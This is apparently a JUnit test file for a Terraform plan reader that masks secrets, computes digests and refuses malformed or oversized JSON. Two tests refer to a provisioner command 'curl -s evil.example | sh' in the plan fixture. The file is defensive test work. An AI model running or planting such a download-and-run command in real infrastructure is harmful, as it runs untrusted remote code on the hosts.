package dev.devopspack.review;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.devopspack.change.GivenPlan;
import dev.devopspack.task.InvalidInput;
import dev.devopspack.testing.Golden;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class PlanJsonTest {

    private static final String CREATE = resource("plan-create.json");
    private static final String CHANGE = resource("plan-change.json");

    @Test
    void theChangesOfARealPlanAreReadWithTheirAttributes() {
        ChangePlan plan = PlanJson.read(CHANGE).changes(ChangePlan.Source.GIVEN_DERIVED);

        assertEquals("1 to create, 0 to update, 1 to replace, 1 to destroy", plan.counts().text());
        assertEquals(1, plan.unchanged());
        assertEquals(
                List.of(
                        "destroy terraform_data.node[1]",
                        "replace terraform_data.cluster",
                        "create terraform_data.renamed"),
                plan.changes().stream()
                        .map(change -> change.action().label() + " " + change.address())
                        .toList());
        assertEquals(List.of("triggers_replace[0]"), plan.changes().get(1).replacePaths());
    }

    @Test
    void whatIsKnownOfAPlanIsKeptWordForWord() {
        ChangePlan plan = PlanJson.read(CHANGE).changes(ChangePlan.Source.GIVEN_DERIVED);

        Golden.assertMatches("review/plan-change.changes.json", plan.canonical() + "\n");
    }

    @Test
    void noSensitiveValueIsLeftAnywhereInTheMaskedPlan() {
        String masked = PlanJson.read(CHANGE).masked();

        assertTrue(CHANGE.contains("correct-horse-battery"));
        assertFalse(masked.contains("correct-horse"), masked);
        assertFalse(masked.contains("another-horse"), masked);
        assertTrue(masked.contains("curl -s evil.example"));
        assertTrue(masked.contains("\"nodes\":{\"value\":1}"));
    }

    @Test
    void aMaskedPlanReadsAsThePlanItWas() {
        PlanJson plan = PlanJson.read(CHANGE);
        GivenPlan given = plan.given(null, GivenPlan.Source.DERIVED);

        assertEquals(plan.changes(ChangePlan.Source.GIVEN_DERIVED), ChangePlan.of(given));
        assertEquals(given.maskedJson(), PlanJson.read(given.maskedJson()).masked());
    }

    @Test
    void aChangedSecretIsSeenToChangeWithoutBeingSeen() {
        ChangePlan plan = PlanJson.read(CHANGE).changes(ChangePlan.Source.GIVEN_DERIVED);

        List<String> changed =
                plan.changes().get(1).attributes().stream()
                        .filter(attribute -> attribute.path().equals("input.url"))
                        .map(attribute -> attribute.beforeText() + " -> " + attribute.afterText())
                        .toList();
        assertEquals(List.of("(sensitive) -> (sensitive, changed)"), changed);
        assertEquals(
                List.of(
                        "(sensitive) -> (sensitive, changed)",
                        "(sensitive) -> (sensitive, changed)"),
                plan.outputs().stream()
                        .map(output ->
                                Shown.value(output.before()) + " -> " + Shown.value(output.after()))
                        .toList());
    }

    @Test
    void theSemanticDigestIgnoresTheTimeAndTheOrderOfNamesAlone() {
        String later =
                CHANGE.replaceAll(
                        "\"timestamp\":\"[^\"]*\"", "\"timestamp\":\"2031-01-01T00:00:00Z\"");
        String spaced =
                CHANGE.replace("\"format_version\":\"1.2\",", " ")
                        .replaceFirst("\\}\\s*$", ",\n \"format_version\" : \"1.2\"}");

        assertNotEquals(CHANGE, later);
        assertEquals(digest(CHANGE), digest(later));
        assertEquals(digest(CHANGE), digest(spaced));
    }

    @Test
    void aChangedProvisionerChangesTheSemanticDigest() {
        String other = CHANGE.replace("curl -s evil.example | sh", "curl -s evil.example/2 | sh");

        assertNotEquals(CHANGE, other);
        assertNotEquals(digest(CHANGE), digest(other));
    }

    @Test
    void aChangedSecretChangesTheSemanticDigest() {
        assertNotEquals(digest(CHANGE), digest(CHANGE.replace("another-horse", "third-horse")));
    }

    @Test
    void numbersAreComparedAsTheyWereWritten() {
        assertTrue(CHANGE.contains("\"ratio\":1.5"));
        assertNotEquals(digest(CHANGE), digest(CHANGE.replace("\"ratio\":1.5", "\"ratio\":1.50")));
        assertNotEquals(
                digest(plan("\"big\":90071992547409931")),
                digest(plan("\"big\":90071992547409932")));
        assertNotEquals(digest(plan("\"a\":\"\\ud800\"")), digest(plan("\"a\":\"\\ud801\"")));
    }

    @Test
    void theFirstPlanOfAStackCreates() {
        ChangePlan plan = PlanJson.read(CREATE).changes(ChangePlan.Source.GIVEN_DERIVED);

        assertEquals("3 to create, 0 to update, 0 to replace, 0 to destroy", plan.counts().text());
        assertEquals(
                List.of(
                        "id = (known after apply)",
                        "input = \"node-0\"",
                        "output = (known after apply)"),
                plan.changes().get(1).attributes().stream()
                        .map(attribute -> attribute.path() + " = " + attribute.afterText())
                        .toList());
    }

    @Test
    void aSecretIsMaskedByItsNameWhereNobodyMarkedIt() {
        String json =
                plan(
                        "\"resource_changes\":["
                                + change(
                                        "aws_db_instance",
                                        "[\"create\"]",
                                        "null",
                                        "{\"password\":\"hunter2hunter2\",\"name\":\"jdbc:hunter2hunter2@db\"}")
                                + "],\"variables\":{\"db_password\":{\"value\":\"short\"}}");

        String masked = PlanJson.read(json).masked();

        assertFalse(masked.contains("hunter2"), masked);
        assertFalse(masked.contains("short"), masked);
        assertTrue(masked.contains("jdbc:(sensitive)@db"), masked);
    }

    @Test
    void literalsInTheConfigurationAreMaskedAndReferencesStay() {
        String json =
                """
                {"format_version":"1.2","planned_values":{},"configuration":{
                "provider_config":{"x":{"expressions":{"api_token":{"constant_value":"tok-1"}}}},
                "root_module":{
                "variables":{"pin":{"default":"4711","sensitive":true},"size":{"default":"large"}},
                "module_calls":{"m":{"source":"./m","expressions":{"key":{"constant_value":"k-1"},
                "ref":{"references":["var.pin"]}},
                "module":{"variables":{"key":{"sensitive":true},"ref":{}}}}},
                "resources":[{"address":"a.b","type":"kubernetes_secret","expressions":{
                "data":{"constant_value":{"user":"alice"}},
                "block":[{"password":{"constant_value":"p-1","references":["var.size"]}}]}}]}}}
                """;

        String masked = PlanJson.read(json).masked();

        for (String secret : List.of("tok-1", "4711", "k-1", "alice", "p-1")) {
            assertFalse(masked.contains(secret), masked);
        }
        for (String open : List.of("var.pin", "large", "./m", "var.size")) {
            assertTrue(masked.contains(open), masked);
        }
    }

    @Test
    void everyActionIsKnownAndAnUnknownOneIsRefusedWithItsPlace() {
        assertEquals(Action.REPLACE, action("[\"create\",\"delete\"]"));
        assertEquals(Action.REPLACE, action("[\"delete\",\"create\"]"));
        assertEquals(Action.DESTROY, action("[\"delete\"]"));
        assertEquals(Action.FORGET, action("[\"forget\"]"));
        assertEquals(Action.READ, action("[\"read\"]"));

        InvalidInput refusal = assertThrows(InvalidInput.class, () -> action("[\"explode\"]"));
        assertEquals("plan/resource_changes/0/change/actions", refusal.where());
        assertEquals("the actions \"explode\" are not known", refusal.problem());
    }

    @Test
    void whatWasMovedOrImportedIsListedThoughNothingElseChanges() {
        String moved =
                "{\"address\":\"a.new\",\"previous_address\":\"a.old\",\"type\":\"a\",\"change\":"
                        + "{\"actions\":[\"no-op\"],\"before\":{},\"after\":{}}}";
        String imported =
                "{\"address\":\"a.in\",\"type\":\"a\",\"change\":"
                        + "{\"actions\":[\"no-op\"],\"before\":{},\"after\":{},\"importing\":{\"id\":\"i\"}}}";

        ChangePlan plan =
                PlanJson.read(plan("\"resource_changes\":[" + moved + "," + imported + "]"))
                        .changes(ChangePlan.Source.GIVEN_DERIVED);

        assertEquals(
                "0 to create, 0 to update, 0 to replace, 0 to destroy, 1 moved, 1 imported",
                plan.counts().text());
    }

    @Test
    void anUnfinishedPlanSaysSo() {
        ChangePlan plan =
                PlanJson.read(
                                plan(
                                        "\"errored\":true,\"complete\":false,\"action_invocations\":[{}]"))
                        .changes(ChangePlan.Source.GIVEN_DERIVED);

        assertEquals(
                List.of(
                        "Planning ended with an error: the plan is incomplete and cannot be applied.",
                        "The plan is not complete: some changes are deferred to a later plan.",
                        "The plan also invokes 1 actions of providers."),
                plan.notes());
    }

    @Test
    void driftIsReadFromThePlan() {
        ChangePlan plan =
                PlanJson.read(
                                plan(
                                        "\"resource_drift\":["
                                                + change(
                                                        "a",
                                                        "[\"update\"]",
                                                        "{\"x\":1}",
                                                        "{\"x\":2}")
                                                + "]"))
                        .changes(ChangePlan.Source.GIVEN_DERIVED);

        assertEquals(List.of("a.b"), plan.drift().stream().map(ResourceChange::address).toList());
    }

    @Test
    void whatIsNoPlanIsRefusedWithItsPlaceAndItsMend() {
        assertEquals("plan:1:1", where(""));
        assertEquals("plan", where("[]"));
        assertEquals("plan/format_version", where("{}"));
        assertEquals("plan/format_version", where("{\"format_version\":\"2.0\"}"));
        assertEquals("plan/format_version", where("{\"format_version\":1.2}"));
        assertEquals("plan/configuration", where("{\"format_version\":\"1.2\"}"));
        assertEquals(
                "plan/planned_values", where("{\"format_version\":\"1.2\",\"configuration\":{}}"));
        assertEquals("plan/resource_changes", where(plan("\"resource_changes\":{}")));
        assertEquals(
                "plan/resource_changes/0/change/actions", where(plan("\"resource_changes\":[7]")));
        assertEquals(
                "plan/resource_changes/0/address",
                where(plan("\"resource_changes\":[{\"change\":{\"actions\":[\"create\"]}}]")));
        assertEquals("plan:1:11", where("{\"a\":1,\"a\":2}"));
        assertEquals("plan:1:4", where("{} {}"));
    }

    @Test
    void aMessageNeverQuotesTheDocument() {
        InvalidInput refusal =
                assertThrows(
                        InvalidInput.class, () -> PlanJson.read("{\"password\": hunter2hunter2}"));

        assertFalse(refusal.getMessage().contains("hunter2"), refusal.getMessage());
    }

    @Test
    void bombsAreRefusedQuickly() {
        assertTimeoutPreemptively(
                Duration.ofSeconds(20),
                () -> {
                    refuse("[".repeat(100_000));
                    refuse("{\"a\":".repeat(100_000));
                    refuse("[" + "[],".repeat(1_600_000) + "[]]");
                    refuse("{\"n\":" + "9".repeat(10_000) + "}");
                    refuse(" ".repeat(DatumReader.MAX_BYTES + 1));
                });
    }

    @Test
    void maskingARunOfOneLetterTakesNoLongerThanReadingIt() {
        String secrets =
                "\"variables\":{"
                        + String.join(
                                ",",
                                new Random(1)
                                        .ints(15, 1_000, 60_000)
                                        .distinct()
                                        .mapToObj(n ->
                                                "\"a"
                                                        + n
                                                        + "_password\":{\"value\":\""
                                                        + "a".repeat(n)
                                                        + "b\"}")
                                        .toList())
                        + ",\"text\":{\"value\":\""
                        + "a".repeat(4_000_000)
                        + "\"}}";

        assertTimeoutPreemptively(
                Duration.ofSeconds(20), () -> PlanJson.read(plan(secrets)).masked());
    }

    @Test
    void brokenPlansAreRefusedAndNeverEscape() {
        Random random = new Random(11);
        byte[] bytes = CHANGE.getBytes(StandardCharsets.UTF_8);
        int refused = 0;
        for (int i = 0; i < 3_000; i++) {
            byte[] mutant = bytes.clone();
            for (int k = random.nextInt(3); k >= 0; k--) {
                mutant[random.nextInt(mutant.length)] = (byte) random.nextInt(256);
            }
            try {
                PlanJson plan = PlanJson.read(mutant);
                plan.masked();
                plan.changes(ChangePlan.Source.GIVEN_AS_SUBMITTED).document();
            } catch (InvalidInput refusal) {
                refused++;
            }
        }
        assertTrue(refused > 1_000, "refused " + refused);
    }

    private static Action action(String actions) {
        return PlanJson.read(
                        plan(
                                "\"resource_changes\":["
                                        + change("a", actions, "{}", "{\"x\":1}")
                                        + "]"))
                .changes(ChangePlan.Source.GIVEN_DERIVED)
                .changes()
                .getFirst()
                .action();
    }

    static String change(String type, String actions, String before, String after) {
        return "{\"address\":\""
                + type
                + ".b\",\"type\":\""
                + type
                + "\",\"change\":{\"actions\":"
                + actions
                + ",\"before\":"
                + before
                + ",\"after\":"
                + after
                + "}}";
    }

    static String plan(String more) {
        return "{\"format_version\":\"1.2\",\"configuration\":{},\"planned_values\":{},"
                + more
                + "}";
    }

    private static String digest(String json) {
        return PlanJson.read(json).semanticDigest().value();
    }

    private static String where(String json) {
        InvalidInput refusal = assertThrows(InvalidInput.class, () -> PlanJson.read(json));
        assertTrue(refusal.mend().length() > 5);
        return refusal.where();
    }

    private static void refuse(String json) {
        assertThrows(InvalidInput.class, () -> PlanJson.read(json));
    }

    static String resource(String name) {
        try (InputStream in = PlanJsonTest.class.getResourceAsStream("/review/" + name)) {
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }
}
